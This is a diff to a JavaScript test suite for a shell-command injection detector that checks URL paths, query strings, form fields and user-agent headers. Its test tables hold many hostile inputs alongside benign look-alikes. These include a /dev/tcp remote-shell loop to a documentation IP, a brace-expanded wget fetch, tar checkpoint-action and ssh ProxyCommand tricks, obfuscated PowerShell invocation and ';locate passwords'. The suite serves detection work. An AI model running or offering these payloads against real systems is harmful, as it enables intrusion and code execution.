@@ -1,4 +1,4 @@
-import { inField, inHeader, inTarget, table } from '../verdict.js';
+import { inField, inHeader, inQuery, inTarget, table } from '../verdict.js';
 
 describe('Shells', () => {
   table(
@@ -117,5 +117,167 @@ describe('Shells', () => {
 
   it('reads the path', () => {
     expect(inTarget('/cmd=1%20%26%26%20ls%20/home')).toBe('shell');
+  });
+});
+
+describe('Command lines by the kind of field', () => {
+  table(
+    'shell',
+    [
+      'groupmems',
+      'lvextend',
+      '"fdisk"',
+      'ansible-pull -U x',
+      'aa-enforce httpd',
+      'pip3 download something',
+      'apt-get source hello',
+      'docker inspect web',
+      'systemctl mask cron',
+      'kubectl drain node-7',
+      'net localgroup',
+      'redis-cli monitor',
+      'env --null',
+      'find --version',
+      'rm old new',
+      "awk '{print $2}'",
+      'gawk "BEGIN{exit}"',
+      "perl -e 's/a/b/'",
+      'chattr +i notes',
+      'socat udp-listen:53 -',
+      'p^i^n^g -n 2 127.0.0.1',
+      'n^e^t^stat',
+      'l{s,s}',
+      'get-volume',
+      'Test-Path C:\\x',
+    ],
+    ['get-together', 'set-top boxes', 'ping pong tables', 'net weight'],
+    'code',
+  );
+  table(
+    'shell',
+    ['partprobe', 'gem fetch x'],
+    [
+      'ansible',
+      'kubectl cheat sheet',
+      'ping pong tables',
+      'ping example.org',
+      'npm start',
+      'cargo build --release',
+      'go build ./...',
+      'php artisan serve',
+      'node server.js',
+      'npm run build',
+      'get-together',
+      'set-top boxes',
+      'start-up costs',
+      'add-on',
+      'docker',
+      'make it so',
+      'sort by price',
+      'date of birth',
+      'net weight',
+      'colo{u}r',
+      '{a,b}',
+    ],
+    'setting',
+  );
+
+  it('lets what is spoken of pass where people write', () => {
+    for (const text of ['visudo', 'ls -la meaning', 'pip install numpy', 'Get-Process', 'crontab -e', 'docker ps -a'])
+      expect([text, inQuery(text), inField(text, 'title')]).toEqual([text, undefined, undefined]);
+    expect(inField('mkswap', 'slug')).toBeUndefined();
+  });
+
+  it('takes the commands of a build service for what they are', () => {
+    expect(inField('npm ci && npm run build', 'installation_command')).toBeUndefined();
+    expect(inField({ '*.svg': 'npx -y svgo -r' }, 'lint-staged')).toBeUndefined();
+  });
+});
+
+describe('More of what shells run', () => {
+  table(
+    'shell',
+    [
+      ';which lua',
+      ';locate passwords',
+      ';wall bye',
+      ';host h.example',
+      ';node a.js',
+      ';docker images',
+      '|Get-Service',
+      ';Start-Sleep 4',
+      ';Start-Sleep -s 4',
+      '|Restart-Computer -Force',
+      ';$SHELL -c id',
+      ';${0} -c id',
+      ';p=l;q=s;$p$q',
+      ';/tmp/implant',
+      '&& ./dropped',
+      '--checkpoint-action=exec=sh x.sh',
+      '-oProxyCommand=touch',
+      '--upload-pack=touch x',
+      "& ('cal'+'c')",
+      '.("i"+"ex") calc',
+      '[Diagnostics.Process]::Start("calc")',
+      'exec 3<>/dev/tcp/192.0.2.7/443; cat <&3 | while read line do $line then go on until it ends',
+      ";$'\\x69\\x64'",
+      '{wget,http://h.example/x}',
+      'mshta vbscript:go',
+      'time; chef-apply',
+      'echo | gcc7.4',
+      'nice /bin/sh -p',
+    ],
+    [
+      'id;name;date',
+      'host|port|user',
+      'make;model;time',
+      '`Date` (copied)',
+      '$(date)',
+      '$(OBJS)',
+      '$HOME/bin',
+      '${HOME}/bin',
+      '0 3 * * 1 /usr/bin/certbot renew --quiet',
+      'Use /usr/bin/env in scripts',
+      'chmod +x fixes the permission error',
+      'Please run npm install && npm test before you push.',
+      'grep -v',
+      '/usr/lib;/tmp',
+      'true|false',
+      'PATH=/usr/bin;/opt',
+      'see [Foo]::bar',
+      'time; tide',
+    ],
+  );
+
+  it('tells the name of a program that calls itself by it from a command line', () => {
+    for (const agent of [
+      'chpasswd',
+      'machinectl list',
+      'kubectl get nodes',
+      'docker ps',
+      '"lsof -i"',
+      "'uniq' --version",
+      'env --null',
+      'code=ansible-pull',
+      'puppet apply x.pp',
+    ])
+      expect([agent, inHeader('user-agent', agent)]).toEqual([agent, 'shell']);
+    for (const agent of [
+      'curl/8.5.0',
+      'Wget/1.21.4 (linux-gnu)',
+      'git/2.43.0',
+      'kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f',
+      'ansible-httpget',
+      'jq client',
+      'node',
+      'Ruby',
+      'mail client',
+      'puppet-agent',
+      'Composer/2.6.6 (Linux; 6.5.0; PHP 8.2.0; cURL 8.5.0)',
+      'python-requests/2.31.0',
+      'aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0 command/s3.ls',
+      'date picker',
+    ])
+      expect([agent, inHeader('user-agent', agent)]).toEqual([agent, undefined]);
   });
 });
